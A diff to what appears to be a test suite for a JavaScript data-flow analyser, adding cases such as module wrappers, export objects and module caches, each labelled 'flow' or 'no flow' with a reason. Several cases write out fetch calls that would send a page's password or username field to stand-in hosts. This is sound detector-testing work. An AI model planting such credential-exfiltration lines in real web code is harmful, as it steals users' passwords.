@@ -115,11 +115,13 @@ document.querySelector('#go').onclick = function () { require('ui')(); };
 //# amd-not-run
 // no flow
 // why: the factory of the second module is never run
-var table = {};
-function define(name, f) { table[name] = f; }
-define('net', function () { return function () { return fetch('https://amdok.mod.example/ping'); }; });
-define('leak', function () { fetch('https://amdno.mod.example/l?p=' + document.querySelector('input[type=password]').value); });
-table.net()();
+(function () {
+  var table = {};
+  function define(name, f) { table[name] = f; }
+  define('net', function () { return function () { return fetch('https://amdok.mod.example/ping'); }; });
+  define('leak', function () { fetch('https://amdno.mod.example/l?p=' + document.querySelector('input[type=password]').value); });
+  table.net()();
+})();
 
 //# system-register
 // flow: username > sys.mod.example via fetch
@@ -163,3 +165,23 @@ var Level;
 (function (Level) { Level[Level["Low"] = 0] = "Low"; Level[Level["High"] = 1] = "High"; })(Level || (Level = {}));
 document.querySelector('#meter').value = document.querySelector('input[type=password]').value.length;
 fetch('https://enum.mod.example/e/' + Level.High);
+
+//# export-object-other-key
+// no flow
+// why: the caller takes the function that checks, not the one that sends
+var api = (function (exports) {
+  function send(v) { fetch('https://key.mod.example/s', { method: 'POST', body: v }); }
+  exports.check = function (v) { return v.length > 3; };
+  exports.ping = function () { send('ping'); };
+  return exports;
+})({});
+api.check(document.querySelector('input[type=password]').value) && api.ping();
+
+//# module-cache
+// no flow
+// why: the module runs once, with what was there at first
+var cache = {};
+function req(id, arg) { return cache[id] || (cache[id] = mods[id](arg)); }
+var mods = { conf: function (a) { return { tag: a }; } };
+req('conf', 'v1');
+fetch('https://cache.mod.example/c?t=' + req('conf', document.querySelector('input[name=username]').value).tag);
